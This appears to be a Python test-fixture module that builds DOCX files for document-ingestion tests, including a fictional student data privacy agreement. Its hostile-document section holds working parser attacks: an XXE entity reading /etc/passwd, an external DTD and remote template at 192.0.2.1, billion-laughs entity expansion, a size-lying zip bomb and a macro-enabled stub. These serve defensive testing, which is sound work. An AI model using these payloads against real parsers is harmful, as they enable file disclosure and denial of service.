"""Generators of real DOCX files for the ingestion tests (python-docx plus raw WordprocessingML edits).

python-docx cannot write list numbering definitions, tracked changes or footnotes, so those are added
as raw XML on top of the document python-docx builds. Hostile files (zip bombs, XXE, billion laughs,
macros, external relationships) are assembled at the zip level with a small hand-written zip writer so
that sizes and headers can be made to lie.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path

import docx
from docx.oxml import parse_xml
from docx.oxml.ns import qn
from docx.shared import Pt

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
NSDECL = f'xmlns:w="{W_NS}"'

# --------------------------------------------------------------------------- numbering

# abstractNum 90: contract outline "1." / "1.1" / "(a)" / "(i)"
OUTLINE_ABSTRACT = f"""
<w:abstractNum {NSDECL} w:abstractNumId="90">
  <w:multiLevelType w:val="multilevel"/>
  <w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/></w:lvl>
  <w:lvl w:ilvl="1"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1.%2"/></w:lvl>
  <w:lvl w:ilvl="2"><w:start w:val="1"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="(%3)"/></w:lvl>
  <w:lvl w:ilvl="3"><w:start w:val="1"/><w:numFmt w:val="lowerRoman"/><w:lvlText w:val="(%4)"/></w:lvl>
</w:abstractNum>
"""
# abstractNum 91: "Article I" in upper roman; "Section 1.1" (isLgl shows the roman level as decimal); "(01)"
ARTICLE_ABSTRACT = f"""
<w:abstractNum {NSDECL} w:abstractNumId="91">
  <w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="Article %1"/></w:lvl>
  <w:lvl w:ilvl="1"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="Section %1.%2"/>
    <w:isLgl/></w:lvl>
  <w:lvl w:ilvl="2"><w:start w:val="1"/><w:numFmt w:val="decimalZero"/><w:lvlText w:val="(%3)"/></w:lvl>
</w:abstractNum>
"""
# abstractNum 92: bullets; 93: upper-letter list starting at C
BULLET_ABSTRACT = f"""
<w:abstractNum {NSDECL} w:abstractNumId="92">
  <w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="bullet"/><w:lvlText w:val="\uf0b7"/></w:lvl>
</w:abstractNum>
"""
LETTER_ABSTRACT = f"""
<w:abstractNum {NSDECL} w:abstractNumId="93">
  <w:lvl w:ilvl="0"><w:start w:val="3"/><w:numFmt w:val="upperLetter"/><w:lvlText w:val="%1)"/>
    <w:suff w:val="space"/></w:lvl>
</w:abstractNum>
"""


def _num(num_id: int, abstract_id: int, overrides: dict[int, int] | None = None) -> str:
    ov = "".join(
        f'<w:lvlOverride w:ilvl="{lvl}"><w:startOverride w:val="{start}"/></w:lvlOverride>'
        for lvl, start in (overrides or {}).items()
    )
    return f'<w:num {NSDECL} w:numId="{num_id}"><w:abstractNumId w:val="{abstract_id}"/>{ov}</w:num>'


def add_numbering(document: docx.document.Document, abstracts: Iterable[str], nums: Iterable[str]) -> None:
    """Append list definitions to the document's real numbering.xml part (abstractNums before nums)."""
    numbering = document.part.numbering_part.element
    first_num = numbering.find(qn("w:num"))
    for xml in abstracts:
        el = parse_xml(xml)
        if first_num is not None:
            first_num.addprevious(el)
        else:
            numbering.append(el)
    for xml in nums:
        numbering.append(parse_xml(xml))


def set_numbering(paragraph, num_id: int, ilvl: int = 0) -> None:
    ppr = paragraph._p.get_or_add_pPr()
    numpr = ppr.get_or_add_numPr()
    numpr.get_or_add_ilvl().val = ilvl
    numpr.get_or_add_numId().val = num_id


def numbered(document, text: str, num_id: int, ilvl: int = 0, style: str | None = None):
    p = document.add_paragraph(text, style=style)
    set_numbering(p, num_id, ilvl)
    return p


# --------------------------------------------------------------------------- tracked changes


def _run_xml(text: str, deleted: bool = False) -> str:
    tag = "w:delText" if deleted else "w:t"
    return f'<w:r><{tag} xml:space="preserve">{text}</{tag}></w:r>'


def add_tracked_paragraph(document, pieces: Iterable[tuple[str, str]], *, mark: str = ""):
    """A paragraph of (kind, text) pieces where kind is "", "ins" or "del".

    ``mark="del"``/``"ins"`` also tracks the paragraph mark, as Word does when a whole paragraph is
    deleted or inserted.
    """
    p = document.add_paragraph()
    if mark:
        tag = "w:ins" if mark == "ins" else "w:del"
        rpr = parse_xml(
            f'<w:rPr {NSDECL}><{tag} w:id="699" w:author="Vendor Counsel" w:date="2026-11-02T10:00:00Z"/></w:rPr>'
        )
        p._p.get_or_add_pPr().append(rpr)
    for i, (kind, text) in enumerate(pieces):
        if kind == "":
            p.add_run(text)
            continue
        tag = "w:ins" if kind == "ins" else "w:del"
        el = parse_xml(
            f'<{tag} {NSDECL} w:id="{700 + i}" w:author="Vendor Counsel" w:date="2026-11-02T10:00:00Z">'
            f"{_run_xml(text, deleted=kind == 'del')}</{tag}>"
        )
        p._p.append(el)
    return p


# --------------------------------------------------------------------------- footnotes

FOOTNOTES_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
FOOTNOTES_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes"


def add_footnote_reference(paragraph, note_id: int) -> None:
    paragraph._p.append(
        parse_xml(
            f'<w:r {NSDECL}><w:rPr><w:rStyle w:val="FootnoteReference"/></w:rPr>'
            f'<w:footnoteReference w:id="{note_id}"/></w:r>'
        )
    )


ENDNOTES_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.endnotes+xml"
ENDNOTES_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/endnotes"


def add_endnote_reference(paragraph, note_id: int) -> None:
    paragraph._p.append(parse_xml(f'<w:r {NSDECL}><w:endnoteReference w:id="{note_id}"/></w:r>'))


def endnotes_xml(notes: dict[int, str]) -> bytes:
    return footnotes_xml(notes).replace(b"footnote", b"endnote")


def footnotes_xml(notes: dict[int, str]) -> bytes:
    body = (
        '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:footnote>'
        '<w:footnote w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/></w:r></w:p>'
        "</w:footnote>"
    )
    for nid, text in notes.items():
        body += (
            f'<w:footnote w:id="{nid}"><w:p><w:r><w:footnoteRef/></w:r>'
            f'<w:r><w:t xml:space="preserve"> {text}</w:t></w:r></w:p></w:footnote>'
        )
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:footnotes {NSDECL}>{body}</w:footnotes>'.encode()


# --------------------------------------------------------------------------- zip-level editing


def save(document) -> bytes:
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


def rewrite_zip(
    data: bytes,
    *,
    replace: dict[str, bytes | Callable[[bytes], bytes]] | None = None,
    add: dict[str, bytes] | None = None,
    drop: Iterable[str] = (),
) -> bytes:
    """A copy of a DOCX zip with members replaced (bytes or a function of the old bytes), added or dropped."""
    replace = replace or {}
    drop = set(drop)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in drop:
                continue
            body = src.read(info.filename)
            if info.filename in replace:
                new = replace[info.filename]
                body = new(body) if callable(new) else new
            dst.writestr(info.filename, body)
        for name, body in (add or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def add_part(data: bytes, name: str, body: bytes, content_type: str, rel_type: str, rel_id: str) -> bytes:
    """Add a part related from word/document.xml, with its content-type override."""

    def ct(old: bytes) -> bytes:
        return old.replace(
            b"</Types>", f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'.encode()
        )

    def rels(old: bytes) -> bytes:
        target = name.split("/", 1)[1]
        return old.replace(
            b"</Relationships>",
            f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"/></Relationships>'.encode(),
        )

    return rewrite_zip(
        data, replace={"[Content_Types].xml": ct, "word/_rels/document.xml.rels": rels}, add={name: body}
    )


def raw_zip(members: Iterable[tuple[str, bytes] | tuple[str, bytes, int]], *, level: int = 6) -> bytes:
    """A zip written by hand; a third tuple item overrides the declared uncompressed size (to lie)."""
    packed = []
    for item in members:
        name, body = item[0], item[1]
        declared = item[2] if len(item) > 2 else len(body)  # type: ignore[misc]
        comp = zlib.compressobj(level, zlib.DEFLATED, -15)
        packed.append((name, comp.compress(body) + comp.flush(), declared, zlib.crc32(body) & 0xFFFFFFFF))
    return raw_zip_prepacked(packed)


def zip_members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i.filename, zf.read(i.filename)) for i in zf.infolist()]


def zero_bomb_member(name: str, gigabytes: float) -> tuple[str, bytes, int, int]:
    """Raw deflate data that inflates to ``gigabytes`` GB of zeros, built in milliseconds.

    After a full flush deflate forgets its window, so one compressed megabyte of zeros can be
    repeated; returns (name, raw deflate bytes, uncompressed size, crc32).
    """
    mb = 1 << 20
    zeros = bytes(mb)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    tail = comp.flush()
    n = int(gigabytes * 1024)
    crc = 0
    for _ in range(n):
        crc = zlib.crc32(zeros, crc)
    return name, chunk * n + tail, n * mb, crc & 0xFFFFFFFF


def raw_zip_prepacked(members: Iterable[tuple[str, bytes, int, int]]) -> bytes:
    """A zip from already-deflated members: (name, raw deflate, declared uncompressed size, crc32)."""
    local = io.BytesIO()
    central = io.BytesIO()
    count = 0
    for name, packed, size, crc in members:
        fname = name.encode()
        offset = local.tell()
        # version 20, no flags, deflate (8), fixed DOS time/date; sizes as given
        sizes = (crc, len(packed), size, len(fname))
        local.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, *sizes, 0))
        local.write(fname + packed)
        central.write(
            struct.pack(
                "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, *sizes, 0, 0, 0, 0, 0, offset
            )
        )
        central.write(fname)
        count += 1
    cd = central.getvalue()
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(cd), local.tell(), 0)
    return local.getvalue() + cd + end


# --------------------------------------------------------------------------- whole documents

OUTLINE_NUM, RESTART_NUM, ARTICLE_NUM, BULLET_NUM, LETTER_NUM = 201, 202, 203, 204, 205


def contract_document() -> docx.document.Document:
    """The feature-complete fictional DPA: numbering, tracked changes, table, comments, header/footer,
    page break, footnote reference (the footnote part itself is added by :func:`contract_docx`)."""
    d = docx.Document()
    d.core_properties.title = "Student Data Privacy Agreement"
    add_numbering(
        d,
        [OUTLINE_ABSTRACT, ARTICLE_ABSTRACT, BULLET_ABSTRACT, LETTER_ABSTRACT],
        [
            _num(OUTLINE_NUM, 90),
            _num(RESTART_NUM, 90, {0: 1}),
            _num(ARTICLE_NUM, 91),
            _num(BULLET_NUM, 92),
            _num(LETTER_NUM, 93),
        ],
    )
    sec = d.sections[0]
    sec.header.paragraphs[0].text = "Acme Learning Co. - Confidential"
    sec.footer.paragraphs[0].text = "Student Data Privacy Agreement v3"
    d.add_paragraph("Student Data Privacy Agreement", style="Title")
    d.add_paragraph("This agreement is between the Springfield School District and Acme Learning Co.")
    numbered(d, "Definitions", OUTLINE_NUM, 0, style="Heading 1")  # 1.
    numbered(d, "Student Data means any information that identifies a student.", OUTLINE_NUM, 1)  # 1.1
    p = numbered(d, "Provider means Acme Learning Co. and its staff.", OUTLINE_NUM, 1)  # 1.2
    add_footnote_reference(p, 1)
    numbered(d, "Data Security", OUTLINE_NUM, 0, style="Heading 1")  # 2.
    numbered(d, "The Provider shall encrypt Student Data in transit and at rest.", OUTLINE_NUM, 1)  # 2.1
    numbered(d, "using TLS 1.2 or later;", OUTLINE_NUM, 2)  # (a)
    p = numbered(d, "", OUTLINE_NUM, 2)  # (b), text added as runs so a comment can anchor to one
    p.add_run("using AES-256 ")
    anchored = p.add_run("for stored backups")
    p.add_run(".")
    d.add_comment(
        [anchored], text="Ask whether backups are covered.", author="District Reviewer", initials="DR"
    )
    numbered(d, "with keys held by the Provider only.", OUTLINE_NUM, 3)  # (i)
    numbered(d, "Breach Notification", OUTLINE_NUM, 0, style="Heading 1")  # 3.
    tp = add_tracked_paragraph(
        d,
        [
            ("", "The Provider shall notify the District within "),
            ("del", "ten (10) business days"),
            ("ins", "72 hours"),
            ("", " of discovery of a breach."),
        ],
    )
    set_numbering(tp, OUTLINE_NUM, 1)  # 3.1
    d.add_page_break()
    numbered(d, "Deletion", OUTLINE_NUM, 0, style="Heading 1")  # 4.
    numbered(d, "Data is deleted within 60 days of termination.", OUTLINE_NUM, 1)  # 4.1
    table = d.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "Data element"
    table.cell(0, 1).text = "Retention"
    table.cell(1, 0).text = "Assessment scores"
    table.cell(1, 1).text = "Deleted at termination"
    d.add_paragraph("Security contacts:")
    numbered(d, "Chief Privacy Officer", BULLET_NUM, 0)
    numbered(d, "District IT Director", BULLET_NUM, 0)
    numbered(d, "Exhibits", RESTART_NUM, 0, style="Heading 1")  # restarts at 1.
    numbered(d, "General Terms", ARTICLE_NUM, 0, style="Heading 2")  # Article I
    numbered(d, "Governing law is New York.", ARTICLE_NUM, 1)  # Section 1.1 (isLgl)
    numbered(d, "Venue is Albany County.", ARTICLE_NUM, 1)  # Section 1.2
    numbered(d, "Albany County Supreme Court.", ARTICLE_NUM, 2)  # (01)
    numbered(d, "Option C text.", LETTER_NUM, 0)  # C)
    numbered(d, "Option D text.", LETTER_NUM, 0)  # D)
    return d


def contract_docx(path: Path | None = None) -> bytes:
    data = save(contract_document())
    data = add_part(
        data,
        "word/footnotes.xml",
        footnotes_xml({1: "As defined in 34 CFR 99.3."}),
        FOOTNOTES_CT,
        FOOTNOTES_REL,
        "rIdFoot1",
    )
    if path is not None:
        path.write_bytes(data)
    return data


def long_docx(pages: int = 100, paragraphs_per_page: int = 8) -> bytes:
    """A numbered contract of ``pages`` pages separated by explicit page breaks."""
    d = docx.Document()
    add_numbering(d, [OUTLINE_ABSTRACT], [_num(OUTLINE_NUM, 90)])
    style = d.styles["Normal"]
    style.font.size = Pt(11)
    sentence = (
        "The Provider shall protect Student Data using administrative, physical and technical safeguards "
        "and shall not use it for targeted advertising. "
    )
    for page in range(pages):
        numbered(d, f"Article heading {page + 1}", OUTLINE_NUM, 0, style="Heading 1")
        for _ in range(paragraphs_per_page):
            numbered(d, sentence * 2, OUTLINE_NUM, 1)
        if page < pages - 1:
            d.add_page_break()
    return save(d)


def simple_docx(paragraphs: Iterable[str] = ("The Provider shall delete Student Data.",)) -> bytes:
    d = docx.Document()
    for text in paragraphs:
        d.add_paragraph(text)
    return save(d)


# --------------------------------------------------------------------------- hostile documents

XXE_FILE = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    f"<w:document {NSDECL}><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
)
XXE_NETWORK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<!DOCTYPE w:document SYSTEM "http://192.0.2.1/evil.dtd">\n'
    f"<w:document {NSDECL}><w:body><w:p><w:r><w:t>hello</w:t></w:r></w:p></w:body></w:document>"
)
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)
    )
    + f"]>\n<w:document {NSDECL}><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
)


def with_document_xml(xml: str | bytes, base: bytes | None = None) -> bytes:
    body = xml.encode() if isinstance(xml, str) else xml
    return rewrite_zip(base or simple_docx(), replace={"word/document.xml": body})


def xxe_docx(kind: str = "file") -> bytes:
    return with_document_xml(XXE_FILE if kind == "file" else XXE_NETWORK)


def billion_laughs_docx(utf16: bool = False) -> bytes:
    if utf16:
        xml = BILLION_LAUGHS.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
        return with_document_xml(b"\xff\xfe" + xml.encode("utf-16-le"))
    return with_document_xml(BILLION_LAUGHS)


def entity_in_styles_docx() -> bytes:
    """The DTD hides in styles.xml, a part python-docx would parse too."""
    xml = BILLION_LAUGHS.replace("w:document", "w:styles").replace(
        "<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body>", "<w:docDefaults/>"
    )
    return rewrite_zip(simple_docx(), replace={"word/styles.xml": xml.encode()})


def macro_docx() -> bytes:
    """A macro-enabled document: vbaProject.bin plus the macroEnabled main content type."""

    def ct(old: bytes) -> bytes:
        return old.replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )

    return rewrite_zip(
        simple_docx(),
        replace={"[Content_Types].xml": ct},
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512) + b"Attribute VB_Name"},
    )


def external_links_docx() -> bytes:
    """A linked (not embedded) image and a remote attached template; neither may be fetched."""
    d = docx.Document()
    d.add_paragraph("The Provider shall not sell Student Data.")
    data = save(d)
    image_rel = (
        '<Relationship Id="rIdExtImg" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        'Target="http://192.0.2.1/tracker.png" TargetMode="External"/>'
        '<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
        'Target="https://example.org/privacy" TargetMode="External"/>'
    )
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rIdTpl" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://192.0.2.1/template.dotm" TargetMode="External"/></Relationships>'
    )
    return rewrite_zip(
        data,
        replace={
            "word/_rels/document.xml.rels": lambda old: old.replace(
                b"</Relationships>", image_rel.encode() + b"</Relationships>"
            )
        },
        add={"word/_rels/settings.xml.rels": settings_rels.encode()},
    )


def encrypted_ooxml() -> bytes:
    """The shape of a password-protected .docx: an OLE compound file with EncryptionInfo/EncryptedPackage.

    Only the parts the sniff reads are real (header magic, UTF-16 directory entry names).
    """
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HH", 0x3E, 3) + b"\xfe\xff"
    header = header.ljust(512, b"\x00")

    def entry(name: str) -> bytes:
        encoded = (name + "\x00").encode("utf-16-le")
        return (encoded.ljust(64, b"\x00") + struct.pack("<H", len(encoded))).ljust(128, b"\x00")

    directory = entry("Root Entry") + entry("EncryptionInfo") + entry("EncryptedPackage")
    return header + directory.ljust(512, b"\x00") + bytes(1024)
